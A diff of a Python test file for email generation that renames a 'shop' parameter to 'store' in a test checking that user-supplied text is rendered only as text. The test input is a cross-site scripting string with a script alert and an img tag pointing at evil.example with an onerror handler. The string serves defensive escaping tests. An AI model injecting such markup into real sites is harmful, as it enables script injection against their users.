@@ -43,11 +43,11 @@ NASTY = '<script>alert(1)</script><img src="https://evil.example/x.png" onerror=
 
 class TestEmail:
     @pytest.mark.parametrize("purpose", ["alert", "escalation", "reminder", "passed_on"])
-    @pytest.mark.parametrize("where", ["comment", "name", "touchpoint", "shop", "brand"])
+    @pytest.mark.parametrize("where", ["comment", "name", "touchpoint", "store", "brand"])
     def test_whatever_people_write_is_only_text(self, where: str, purpose: Purpose) -> None:
         changes: dict[str, Any] = (
-            {"store_changes": {"name" if where == "shop" else "brand": NASTY}}
-            if where in ("shop", "brand")
+            {"store_changes": {"name" if where == "store" else "brand": NASTY}}
+            if where in ("store", "brand")
             else {where: NASTY}
         )
         mail = email(purpose=purpose, **changes)
